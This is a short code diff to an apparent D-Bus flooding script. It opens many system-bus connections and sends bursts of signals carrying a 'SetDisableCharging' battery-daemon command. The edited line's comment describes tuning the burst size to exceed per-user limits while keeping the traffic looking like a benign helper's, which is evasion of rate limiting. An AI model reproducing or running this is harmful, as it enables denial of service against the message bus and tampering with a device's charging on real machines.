@@ -36,7 +36,7 @@ address = os.environ['DBUS_SYSTEM_BUS_ADDRESS']
 buses = [dbus.bus.BusConnection(address) for _ in range(int(sys.argv[1]))]
 def burst():
     for bus in buses:
-        for _ in range(32):
+        for _ in range(4):  # 800 a burst: past any per-uid bound, within a sanitized helper's pace
             command = dbus.lowlevel.SignalMessage('/lumora/Notifications', 'lumora.Notifications',
                                                   'Darwin')
             command.append('ZTBattery_TellDeamon_SetDisableCharging', signature='s')
